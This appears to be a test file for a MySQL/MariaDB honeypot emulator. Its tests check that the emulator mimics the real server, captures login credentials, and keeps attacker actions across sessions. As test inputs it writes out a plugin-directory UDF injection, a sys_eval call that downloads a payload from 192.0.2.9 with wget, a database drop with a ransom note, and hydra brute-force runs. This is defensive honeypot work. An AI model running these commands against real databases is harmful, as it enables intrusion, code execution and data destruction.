import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { transcript } from '../../../test/transcripts/transcript.ts';
import { type Served, serve } from '../fixture.ts';
import { Memory } from '../memory.ts';
import { scramble } from '../mysql/scramble.ts';
import { bodyOf, meet, type Stage } from '../play.ts';
import { mysql } from './mysql.ts';

const run = promisify(execFile);
const packet = (sequence: number, body: string) =>
  `${String.fromCharCode(body.length & 255, (body.length >> 8) & 255, body.length >> 16, sequence)}${body}`;
const ask = (words: string) => packet(0, `\x03${words}`);

/** The client's answer to a greeting, as record.mjs gives it. */
function hello(greeting: string, user: string, secret: string, plugin = 'mysql_native_password'): string {
  const bytes = Buffer.from(greeting, 'latin1');
  const zero = bytes.indexOf(0, 5);
  const salt = Buffer.concat([bytes.subarray(zero + 5, zero + 13), bytes.subarray(zero + 32, zero + 44)]);
  const proof = scramble('mysql_native_password', secret, salt);
  const head = Buffer.alloc(32);
  head.writeUInt32LE(0x000fa205, 0);
  head.writeUInt32LE(0x1000000, 4);
  head[8] = 45;
  return packet(
    1,
    `${head.toString('latin1')}${user}\0${String.fromCharCode(proof.length)}${proof.toString('latin1')}${plugin}\0`,
  );
}

/** A memory in which root:secret works. */
function known(): Memory {
  const memory = new Memory();
  memory.set('credentials', { tries: 1, wanted: 1, worked: { user: 'root', secret: 'root' } });
  return memory;
}

async function enter(stage: Stage = {}) {
  const talk = meet(mysql, {
    memory: known(),
    ...stage,
    options: { version: '10.11.19-MariaDB-0+deb12u1', ...stage.options },
  });
  const greeting = await talk.say('');
  const entered = await talk.say(hello(greeting, 'root', 'root'));
  return { talk, greeting, entered };
}

const errorText = (answer: string) => answer.slice(13);
const has = (program: string) =>
  ['/usr/bin', '/usr/sbin', '/bin'].some((folder) => existsSync(`${folder}/${program}`));

describe('against MariaDB 10.11.19', () => {
  const [greeting, ...exchanges] = transcript('mysql/mariadb-10.11.txt');
  // What only the real one has: other tables of its own, paths and hosts of where it was recorded.
  const own =
    /^(SELECT @@plugin_dir|show variables like 'version%'|show grants|SHOW DATABASES|select schema_name|select user, host|!09|select user\(\)|select current_user|SELECT @@version_compile|SHOW VARIABLES LIKE 'plugin|show status|select hex)/;

  it('greets as it does', async () => {
    const mine = (await enter()).greeting;
    const blank = (text: string) => {
      const at = text.indexOf('\0', 5) + 1;
      return `${text.slice(0, at)}${text.slice(at + 12, at + 31)}${text.slice(at + 43)}`;
    };
    const real = greeting!.answer.slice(0, mine.length);
    expect(blank(mine)).toBe(blank(real));
  });

  it('answers every recorded statement byte by byte', async () => {
    const { talk } = await enter();
    const wrong: string[] = [];
    for (const { say, answer } of [...exchanges]) {
      const words = say.replace(/\\(.)/g, '$1');
      const bytes = say.startsWith('!')
        ? packet(0, Buffer.from(say.slice(1), 'hex').toString('latin1'))
        : ask(words);
      const mine = await talk.say(bytes);
      if (own.test(say) ? mine === '' : mine !== answer)
        wrong.push(`${say}\n  mine ${JSON.stringify(mine)}\n  real ${JSON.stringify(answer)}`);
    }
    await talk.leave();
    expect(talk.faults).toEqual([]);
    expect(wrong.join('\n')).toBe('');
  });
});

describe('what is told', () => {
  it('gives away a common password, and keeps the answer to the salt of any other', async () => {
    for (const [secret, recovered] of [
      ['123456', true],
      ['kT9#xq', false],
    ] as const) {
      const talk = meet(mysql, { options: { version: '10.11.19-MariaDB-0+deb12u1' } });
      const greeting = await talk.say('');
      const answer = await talk.say(hello(greeting, 'admin', secret));
      await talk.leave();
      const login = talk.events.map(bodyOf).find(({ kind }) => kind === 'login')!;
      expect(login).toMatchObject({ user: 'admin', method: 'mysql_native_password', detail: { recovered } });
      expect(login.detail!.hash).toMatch(/^\$mysqlna\$[0-9a-f]{40}\*[0-9a-f]{40}$/);
      if (recovered) expect(login).toMatchObject({ secret });
      else expect(errorText(answer)).toBe("Access denied for user 'admin'@'192.0.2.7' (using password: YES)");
    }
  });

  it('takes a library, installs its function and plays what it runs; the next connection finds it', async () => {
    const { talk } = await enter();
    const library = Buffer.from('\x7fELF-not-really').toString('hex');
    await talk.say(ask(`SELECT 0x${library} INTO DUMPFILE '/usr/lib/mysql/plugin/u.so'`));
    await talk.say(ask("CREATE FUNCTION sys_eval RETURNS STRING SONAME 'u.so'"));
    await talk.leave();
    const again = await enter({ memory: talk.memory });
    const answer = await again.talk.say(
      ask("SELECT sys_eval('wget http://192.0.2.9/x -O /tmp/x; echo done')"),
    );
    await again.talk.leave();
    expect([...talk.faults, ...again.talk.faults]).toEqual([]);
    expect(answer).toContain('done\n');
    expect(talk.events.map(bodyOf).filter(({ kind }) => kind === 'upload')).toMatchObject([
      { detail: { how: 'literal' } },
      { name: '/usr/lib/mysql/plugin/u.so', size: 15 },
    ]);
    expect(again.talk.events.map(bodyOf)).toContainEqual(
      expect.objectContaining({ kind: 'download', url: 'http://192.0.2.9/x' }),
    );
    const dropped = await again.talk.events.map(bodyOf).filter(({ kind }) => kind === 'command');
    expect(dropped.map((each) => 'input' in each && each.input)).toContain(
      'wget http://192.0.2.9/x -O /tmp/x; echo done',
    );
  });

  it('remembers a ransom note and what was dropped for it', async () => {
    const { talk } = await enter();
    const shown = await talk.say(ask('SHOW DATABASES'));
    const name = /(webapp|shop|crm|inventory|wiki|portal|media|intranet)/.exec(shown)![1]!;
    for (const words of [
      `DROP DATABASE ${name}`,
      'CREATE DATABASE README',
      'CREATE TABLE README.NOTE (t TEXT)',
      "INSERT INTO README.NOTE VALUES ('pay')",
    ])
      expect((await talk.say(ask(words))).charCodeAt(4)).toBe(0);
    await talk.leave();
    const { talk: next } = await enter({ memory: talk.memory });
    const after = await next.say(ask('SHOW DATABASES'));
    expect(after).toContain('README');
    expect(after).not.toContain(name);
    expect(await next.say(ask('SELECT * FROM README.NOTE'))).toContain('\x03pay');
    const { talk: other } = await enter();
    expect(await other.say(ask('SHOW DATABASES'))).toContain(name);
  });
});

describe('real clients', () => {
  let served: Served;
  beforeAll(async () => {
    served = await serve(mysql, { version: '8.0.36' });
  });
  afterAll(() => served.close());
  const login = async (...more: string[]) => {
    const args = [
      '--no-defaults',
      '--skip-ssl',
      '-h127.0.0.1',
      `-P${served.port}`,
      '-uroot',
      '-proot',
      ...more,
    ];
    // The first to third plausible pair gets in.
    for (let n = 0; ; n++) {
      try {
        return (await run('mysql', args)).stdout;
      } catch (error) {
        if (n === 3) throw error;
      }
    }
  };

  it.skipIf(!has('mysql'))(
    'mysql logs in with a sealed password, asks and switches databases (skipped without mysql)',
    async () => {
      expect(
        await login(
          '-e',
          'select version(); use mysql; select user from user where user="root" limit 1; show tables like "us%"',
        ),
      ).toBe('version()\n8.0.36\nuser\nroot\nTables_in_mysql (us%)\nuser\n');
      expect(await login('--compress', '-Ne', `select repeat('a', 300)`)).toBe(`${'a'.repeat(300)}\n`);
      expect(served.faults).toEqual([]);
      expect(served.events.find(({ kind }) => kind === 'fingerprint')).toMatchObject({
        software: expect.stringContaining('mariadb'),
      });
      // A password that no list holds comes through all the same: the client seals it with the sensor's key.
      await expect(
        run('mysql', ['--no-defaults', '--skip-ssl', '-h127.0.0.1', `-P${served.port}`, '-ux', '-pkT9xq']),
      ).rejects.toThrow("Access denied for user 'x'@'127.0.0.1' (using password: YES)");
      expect(served.events.find((event) => event.kind === 'login' && event.user === 'x')).toMatchObject({
        secret: 'kT9xq',
      });
    },
  );

  it.skipIf(!has('nmap'))('nmap names it MySQL with its version (skipped without nmap)', async () => {
    const { stdout } = await run('nmap', ['-Pn', '-sV', `-p${served.port}`, '127.0.0.1']);
    expect(stdout).toMatch(/open\s+mysql\s+MySQL 8\.0\.36/);
  });

  it.skipIf(!has('hydra'))('hydra finds the pair that works (skipped without hydra)', async () => {
    const maria = await serve(mysql, { version: '10.11.6-MariaDB-0+deb12u1' });
    // The empty one, the user's name, and that backwards: one of three gets in.
    const args = [
      '-I',
      '-t1',
      '-l',
      'root',
      '-p',
      '123456',
      '-e',
      'nsr',
      '-s',
      String(maria.port),
      '127.0.0.1',
      'mysql',
    ];
    const { stdout } = await run('hydra', args).catch((error) => error);
    await maria.close();
    expect(stdout).toMatch(/host: 127\.0\.0\.1 {3}login: root/);
    expect(maria.faults).toEqual([]);
  });
});
